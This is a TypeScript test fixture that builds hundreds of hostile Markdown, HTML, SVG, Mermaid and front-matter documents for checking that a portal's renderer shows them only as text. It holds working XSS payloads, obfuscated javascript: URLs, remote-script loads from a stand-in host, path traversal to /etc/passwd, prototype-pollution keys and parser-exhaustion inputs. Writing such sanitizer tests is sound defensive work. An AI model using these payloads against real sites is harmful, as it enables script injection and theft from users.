/**
 * Documents that attack whoever shows them: payloads put into every place of Markdown, HTML, SVG, Mermaid and front matter that could
 * carry one. Each must come out as text. The same corpus is rendered in jsdom here and in a browser by the portal's own tests.
 *
 * What would run calls `hostile()`; what would load asks `evil.example`.
 */

/** One attack. */
export interface HostileDocument {
  /** Where the payload stands, and its number there. */
  name: string;
  text: string;
}

/** Calls of a function that a page under test watches. */
const scripts = ['hostile()', 'window.hostile()', 'hostile`1`', "setTimeout('hostile()')", 'import("https://evil.example/x.mjs")'];

/** Addresses that would run, load or frame. */
const addresses = [
  /* eslint-disable no-script-url -- the very addresses that must not be followed */
  'javascript:hostile()',
  'JaVaScRiPt:hostile()',
  ' javascript:hostile()',
  '\u0001javascript:hostile()',
  'java\tscript:hostile()',
  'java\nscript:hostile()',
  'javascript&colon;hostile()',
  'javascript&#58;hostile()',
  'javascript&#x3A;hostile()',
  '&#106;&#97;&#118;&#97;script:hostile()',
  '&#x6A&#x61&#x76&#x61script:hostile()',
  'javascript%3Ahostile()',
  'javascript://example.com/%0Ahostile()',
  'vbscript:hostile()',
  'livescript:hostile()',
  'data:text/html,<script>hostile()</script>',
  'data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hostile()"/>',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'view-source:https://evil.example',
  'file:///etc/passwd',
  'mailto:a@example.com?body=hostile()',
  'tel:1',
  'intent://evil.example#Intent;end',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  '/%5cevil.example',
  '../../../../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fx',
  // letters that look like others, or turn the text around
  'javaſcript:hostile()',
  'ｊavascript:hostile()',
  'javascript：hostile()',
  '\u202Ejavascript:hostile()',
  '\u200Bjavascript:hostile()',
  '\uFEFFjavascript:hostile()',
  'java\u00ADscript:hostile()',
  'java\u0000script:hostile()',
  /* eslint-enable no-script-url */
];

/** HTML that would run, load, frame, redirect or style. */
const html = [
  '<script>hostile()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT>hostile()</SCRIPT>',
  '<scr<script>ipt>hostile()</scr</script>ipt>',
  '<script/xss>hostile()</script>',
  '<script\n>hostile()</script\n>',
  '<script type="module">hostile()</script>',
  '<img src=x onerror=hostile()>',
  '<img src="https://evil.example/x.png">',
  '<img srcset="https://evil.example/x.png 2x">',
  '<img/src=x/onerror=hostile()>',
  '<img src=x onerror="hostile()"//',
  '<IMG """><SCRIPT>hostile()</SCRIPT>">',
  '<svg onload=hostile()>',
  '<svg><script>hostile()</script></svg>',
  '<svg><script href="https://evil.example/x.js"/></svg>',
  '<svg><a xlink:href="javascript:hostile()"><text>x</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=a onload=hostile()>#a"/></svg>',
  '<svg><image href="https://evil.example/x.png" onerror=hostile() /></svg>',
  '<svg><animate onbegin=hostile() attributeName=x dur=1s></svg>',
  '<svg><set attributeName="href" to="javascript:hostile()"/></svg>',
  '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
  '<svg><style>@import url(https://evil.example/x.css);</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hostile()></style></mglyph></table></mtext></math>',
  '<math href="javascript:hostile()">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>',
  '<iframe src="javascript:parent.hostile()"></iframe>',
  '<frameset><frame src="https://evil.example"></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x"></applet>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="preload" as="script" href="https://evil.example/x.js">',
  '<style>body{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<form action="https://evil.example"><input name=x><button>go</button></form>',
  '<button formaction="javascript:hostile()">go</button>',
  '<input autofocus onfocus=hostile()>',
  '<input type="image" src="https://evil.example/x.png">',
  '<textarea autofocus onfocus=hostile()></textarea>',
  '<select autofocus onfocus=hostile()></select>',
  '<video src="https://evil.example/x.mp4" onerror=hostile() autoplay></video>',
  '<video poster="https://evil.example/x.png"></video>',
  '<audio src="https://evil.example/x.mp3" onloadstart=hostile()></audio>',
  '<source src="https://evil.example/x" onerror=hostile()>',
  '<track src="https://evil.example/x">',
  '<details open ontoggle=hostile()><summary>x</summary></details>',
  '<marquee onstart=hostile()>x</marquee>',
  '<body onload=hostile()>',
  '<body background="https://evil.example/x.png">',
  '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="position:fixed;inset:0;z-index:99999">x</div>',
  '<p class="MuiButton-root" id="root" name="location">x</p>',
  '<a href="javascript:hostile()">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping" target="_self">x</a>',
  '<a id="document-title" name="cookie">x</a>',
  '<template><script>hostile()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hostile()>"></noscript>',
  '<xmp><img src=x onerror=hostile()></xmp>',
  '<plaintext><script>hostile()</script>',
  '<custom-element onclick=hostile()>x</custom-element>',
  '<x onmouseover=hostile() style=display:block>x</x>',
  '<dialog open>x</dialog>',
  '<portal src="https://evil.example"></portal>',
  '<!--><script>hostile()</script>-->',
  '<!-- run --><script>hostile()</script>',
  '<![CDATA[<script>hostile()</script>]]>',
  '<?xml-stylesheet href="https://evil.example/x.css"?>',
  '<!DOCTYPE html SYSTEM "https://evil.example/x.dtd">',
  '&lt;script&gt;hostile()&lt;/script&gt;',
  '\\<script>hostile()\\</script>',
];

/** Where HTML can stand in a document. */
const htmlPlaces: [string, (payload: string) => string][] = [
  ['block', payload => payload],
  ['inside a sentence', payload => `Before ${payload} after.`],
  ['list', payload => `- one\n- ${payload}\n`],
  ['quotation', payload => `> [!NOTE]\n> ${payload}`],
  ['table', payload => `| a | b |\n| - | - |\n| ${payload.replace(/\n|\|/g, ' ')} | x |`],
  ['heading', payload => `## ${payload.replace(/\n/g, ' ')}`],
];

/** Where an address can stand in a document. */
const addressPlaces: [string, (address: string) => string][] = [
  ['link', address => `[x](${address})`],
  ['link in brackets', address => `[x](<${address}>)`],
  ['reference', address => `[x][r]\n\n[r]: ${address}`],
  ['image', address => `![x](${address})`],
  ['linked image', address => `[![x](${address})](${address})`],
  ['autolink', address => `<${address}>`],
  ['bare', address => `See ${address} for more.`],
  ['footnote', address => `x[^1]\n\n[^1]: [y](${address})`],
];

/** Diagrams: labels, directives, styles and clicks. */
const mermaid: string[] = [
  ...html.slice(0, 40).map(payload => `flowchart LR\n  a["${payload.replace(/"|\n/g, "'")}"] --> b`),
  ...html.slice(0, 20).map(payload => `sequenceDiagram\n  A->>B: ${payload.replace(/\n/g, ' ')}`),
  ...html.slice(0, 20).map(payload => `stateDiagram-v2\n  a --> b: ${payload.replace(/\n/g, ' ')}\n  a: ${payload.replace(/\n/g, ' ')}`),
  ...addresses.slice(0, 20).map(address => `flowchart TD\n  a --> b\n  click a href "${address.replace(/\n/g, ' ')}" _self`),
  ...scripts.map(script => `flowchart TD\n  a --> b\n  click a call ${script}`),
  '%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://evil.example/x) }"}}%%\nflowchart LR\n  a --> b',
  '%%{init: {"theme": "base", "themeVariables": {"fontFamily": "x;} * {display:none"}}}%%\nflowchart LR\n  a --> b',
  '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\nflowchart LR\n  a["<img src=x onerror=hostile()>"] --> b',
  'flowchart LR\n  classDef x fill:url(https://evil.example/x.png)\n  a:::x --> b',
  'flowchart LR\n  style a fill:red,background:url(https://evil.example/x)\n  a --> b',
  'flowchart LR\n  linkStyle 0 stroke:url(https://evil.example/x)\n  a --> b',
  'flowchart LR\n  a@{ img: "https://evil.example/x.png" } --> b',
  'flowchart LR\n  a["fa:fa-x <i onclick=hostile()>"] --> b',
  'flowchart LR\n  __proto__ --> constructor\n  toString --> hasOwnProperty',
  'flowchart LR\n  subgraph __proto__\n    a --> b\n  end\n  __proto__ --> constructor',
  'sequenceDiagram\n  participant __proto__ as <script>hostile()</script>\n  __proto__->>constructor: $$\\href{javascript:hostile()}{x}$$',
  'sequenceDiagram\n  links A: {"x": "javascript:hostile()"}\n  A->>B: x',
  'classDiagram\n  class A {\n    +<script>hostile()</script>\n  }\n  link A "javascript:hostile()"',
  'gantt\n  click a href "javascript:hostile()"',
  'architecture-beta\n  service a(<img src=x onerror=hostile()>)[x]',
  'mindmap\n  root((<img src=x onerror=hostile()>))',
  `flowchart LR\n${Array.from({ length: 5000 }, (_, index) => `  a${index} --> a${(index * 7) % 5000}`).join('\n')}`,
  `flowchart LR\n  a[${'('.repeat(400)}] --> b`,
  `flowchart LR\n  ${'a --- '.repeat(80)}a`,
  `sequenceDiagram\n  ${'A-'.repeat(200)}`,
  `stateDiagram-v2\n${'state a {\n'.repeat(200)}`,
  `flowchart LR\n${'subgraph x\n'.repeat(60)}a --> b\n${'end\n'.repeat(60)}`,
];

/** Front matter that reached the text, and documents that want to be more than one. */
const frontMatter: string[] = [
  ...html.slice(0, 12).map(payload => `---\ntitle: "${payload.replace(/"|\n/g, "'")}"\n---\n\n# ${payload.replace(/\n/g, ' ')}`),
  '---\n__proto__: { polluted: true }\nconstructor: x\n---\n\nText.',
  '---\ntitle: !!js/function "function(){ hostile() }"\n---\n\nText.',
  '---\na: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\n---\n\nText.',
];

/** What hides in code, marks of commands, admonitions and nesting. */
const others: string[] = [
  ...html.slice(0, 20).map(payload => `\`\`\`html\n${payload}\n\`\`\``),
  ...html.slice(0, 10).map(payload => `\`\`\`${payload.replace(/[\s`]/g, '')}\nx\n\`\`\``),
  ...html.slice(0, 10).map(payload => `<!-- not run: ${payload.replace(/\n|-->/g, ' ')} -->\n\`\`\`sh\nls\n\`\`\``),
  ...html.slice(0, 10).map(payload => `!!! warning "${payload.replace(/"|\n/g, "'")}"\n    ${payload.replace(/\n/g, ' ')}\n`),
  ...html.slice(0, 10).map(payload => `${'> '.repeat(12)}${payload.replace(/\n/g, ' ')}`),
  ...html.slice(0, 10).map(payload => `${'  - x\n'.repeat(3)}    - ${payload.replace(/\n/g, ' ')}`),
  ...addresses.slice(0, 10).map(address => `[![a](${address})](x "${address.replace(/"|\n/g, "'")}")`),
  '[x](#__proto__)',
  '[x](#root)',
  '# root\n\n# __proto__\n\n# constructor\n\n# location',
  '[x](https://evil.example "onmouseover=hostile()")',
  '[x](https://evil.example\'onmouseover=hostile())',
  '[x](https://user:pass@evil.example)',
  '```mermaid\n</code></pre><script>hostile()</script>\n```',
  '- [x] <img src=x onerror=hostile()>\n- [ ] [y](javascript:hostile())',
  'x[^<script>hostile()</script>]\n\n[^<script>hostile()</script>]: y',
  '[^1]: <img src=x onerror=hostile()>\n\nx[^1]',
  '\u202Egnp.exe\u202C [\u202Ex](https://evil.example)',
  '<https://evil.example/"onmouseover="hostile()>',
  'https://evil.example/<script>hostile()</script>',
  'www.evil.example/"onclick=hostile()',
  'hostile@evil.example',
  `${'['.repeat(500)}x${']'.repeat(500)}`,
  `${'*'.repeat(2000)}x`,
  `${'> '.repeat(200)}x`,
  `${'`'.repeat(999)}x`,
  `| ${'a | '.repeat(300)}\n| ${'- | '.repeat(300)}`,
  '\u0000\u0001\u0008\u000b<script\u0000>hostile()</script>',
  '￿<img src=x onerror=hostile()>',
];

/** Every attack; well over 500. */
export function hostileDocuments(): HostileDocument[] {
  const documents: HostileDocument[] = [];
  const add = (place: string, texts: string[]) => {
    for (const [index, text] of texts.entries()) documents.push({ name: `${place} ${index + 1}`, text });
  };
  for (const [place, put] of htmlPlaces) add(`HTML, ${place}`, html.map(put));
  for (const [place, put] of addressPlaces) add(`address, ${place}`, addresses.map(put));
  add('script as text', scripts.map(script => `\${${script}} {{${script}}} <%= ${script} %> {${script}}`));
  add(
    'Mermaid',
    mermaid.map(text => `\`\`\`mermaid\n${text}\n\`\`\``),
  );
  add('front matter', frontMatter);
  add('others', others);
  return documents;
}
